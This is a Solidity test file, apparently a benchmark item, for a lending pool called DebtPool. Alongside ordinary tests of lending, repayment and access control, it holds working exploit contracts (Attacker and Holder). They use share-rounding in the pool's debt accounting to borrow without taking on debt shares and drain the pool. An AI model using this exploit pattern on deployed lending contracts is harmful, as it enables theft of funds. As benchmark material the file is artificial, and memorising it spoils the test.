// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import {IAccessControl} from "@openzeppelin/contracts@5.4.0/access/IAccessControl.sol";
import {ERC20} from "@openzeppelin/contracts@5.4.0/token/ERC20/ERC20.sol";
import "./DebtPool.sol";

// assay-canary-cf6ff149-6b0f-4623-b552-a4af0ab02924

interface Vm {
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
}

contract Coin is ERC20 {
    address private minter = msg.sender;

    constructor(string memory name) ERC20(name, name) {}

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter, "minter only");
        _mint(to, amount);
    }
}

contract Usdx is Coin("USDX") {}

contract Weth is Coin("WETH") {}

contract Feed is IPriceSource {
    address private setter = msg.sender;
    uint256 public price = 2_000e18;

    function set(uint256 price_) external {
        require(msg.sender == setter, "setter only");
        price = price_;
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address internal constant ANA = address(0xA9A);
    address internal constant BEN = address(0xBE9);

    Usdx internal usdx;
    Weth internal weth;
    Feed internal feed;
    DebtPool internal pool;
    Attacker internal mallory;

    function setUp() public {
        usdx = new Usdx();
        weth = new Weth();
        feed = new Feed();
        pool = new DebtPool(address(this), usdx, weth, feed, 100_000e18);
        usdx.mint(address(this), 100_000e18);
        usdx.approve(address(pool), type(uint256).max);
        pool.fund(99_000e18);
        address[2] memory all = [ANA, BEN];
        for (uint256 i = 0; i < 2; i++) {
            weth.mint(all[i], 10e18);
            vm.startPrank(all[i]);
            weth.approve(address(pool), 10e18);
            usdx.approve(address(pool), type(uint256).max);
            vm.stopPrank();
        }
        mallory = new Attacker(pool, usdx, weth);
        weth.mint(address(mallory), 1e18);
    }

    function lend(address who, uint256 amount) internal {
        vm.startPrank(who);
        pool.pledge(10e18);
        pool.borrow(amount);
        vm.stopPrank();
    }

    function test_Regular() public {
        lend(ANA, 12_000e18);
        lend(BEN, 6_000e18);
        (uint256 amount, uint256 shares) = pool.debt();
        require(amount == 18_000e18 && shares == 18_000e18 && pool.sharesOf(BEN) == 6_000e18, "lent");
        vm.warp(block.timestamp + 365 days);
        pool.accrue();
        require(pool.debtOf(BEN) / 1e12 == 6_599_999_999, "a tenth a year");
        vm.startPrank(BEN);
        require(pool.repay(BEN, 3_000e18) / 1e12 == 3_299_999_999, "repaid half");
        pool.release(7e18);
        require(weth.balanceOf(BEN) == 7e18 && pool.collateralOf(BEN) == 3e18, "released");
        vm.stopPrank();

        feed.set(1_500e18);
        usdx.mint(address(this), 5_000e18);
        uint256 seized = pool.liquidate(ANA, 4_000e18);
        require(seized / 1e12 == 3_167_999 && weth.balanceOf(address(this)) == seized, "eight per cent on top");
        pool.fund(1e18);
        pool.defund(10e18);

        bytes32 role = pool.TREASURY_ROLE();
        pool.grantRole(role, ANA);
        pool.revokeRole(role, ANA);
        pool.renounceRole(role, address(this));
    }

    function test_RefusesStrangers() public {
        bytes32 role = pool.TREASURY_ROLE();
        bytes memory why = abi.encodeWithSelector(IAccessControl.AccessControlUnauthorizedAccount.selector, ANA, role);
        vm.startPrank(ANA);
        vm.expectRevert(why);
        pool.defund(1);
        vm.expectRevert(why);
        pool.fund(0);
        vm.stopPrank();
    }

    function test_RefusesLoans() public {
        feed.set(14_000e18);
        vm.startPrank(ANA);
        pool.pledge(10e18);
        vm.expectRevert("DebtPool: above ceiling");
        pool.borrow(100_000e18 + 1);
        vm.stopPrank();
        feed.set(2_000e18);
        vm.startPrank(ANA);
        vm.expectRevert("DebtPool: not solvent");
        pool.borrow(15_000e18 + 1);
        pool.borrow(15_000e18);
        vm.expectRevert("DebtPool: not solvent");
        pool.release(1e9);
        vm.stopPrank();
        vm.expectRevert("DebtPool: solvent");
        pool.liquidate(ANA, 1e18);
    }

    function exploit() public {
        mallory.enter();
        vm.warp(block.timestamp + 366 days);
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(usdx.balanceOf(address(mallory)) >= 90_000e18, "nothing gained");
    }

    function asset() public view returns (address) {
        return address(usdx);
    }

    function target() public view returns (address) {
        return address(pool);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

/// The account that keeps the last share.
contract Holder {
    DebtPool internal pool;
    IERC20 internal usdx;
    address internal owner = msg.sender;

    constructor(DebtPool pool_, IERC20 usdx_, IERC20 weth) {
        pool = pool_;
        usdx = usdx_;
        weth.approve(address(pool), type(uint256).max);
    }

    function enter(uint256 collateral) external {
        require(msg.sender == owner, "owner only");
        pool.pledge(collateral);
        pool.borrow(10);
    }

    function leaveOne() external {
        require(msg.sender == owner, "owner only");
        usdx.approve(address(pool), type(uint256).max);
        pool.repay(address(this), 9);
    }
}

contract Attacker {
    DebtPool internal pool;
    IERC20 internal usdx;
    IERC20 internal weth;
    Holder internal holder;

    constructor(DebtPool pool_, IERC20 usdx_, IERC20 weth_) {
        pool = pool_;
        usdx = usdx_;
        weth = weth_;
    }

    function enter() external {
        holder = new Holder(pool, usdx, weth);
        weth.transfer(address(holder), weth.balanceOf(address(this)));
        holder.enter(weth.balanceOf(address(holder)));
    }

    function run() external {
        pool.accrue();
        for (uint256 i = 0; i < 20 && worth() < 3; i++) pool.borrow(worth());
        usdx.transfer(address(holder), usdx.balanceOf(address(this)));
        holder.leaveOne();
        for (uint256 i = 0; i < 80 && usdx.balanceOf(address(pool)) > 0; i++) {
            (uint256 amount, ) = pool.debt();
            uint256 left = usdx.balanceOf(address(pool));
            pool.borrow(amount - 1 < left ? amount - 1 : left);
        }
    }

    /// The most that is worth less than a share.
    function worth() internal view returns (uint256) {
        (uint256 amount, uint256 shares) = pool.debt();
        return (amount - 1) / shares;
    }
}
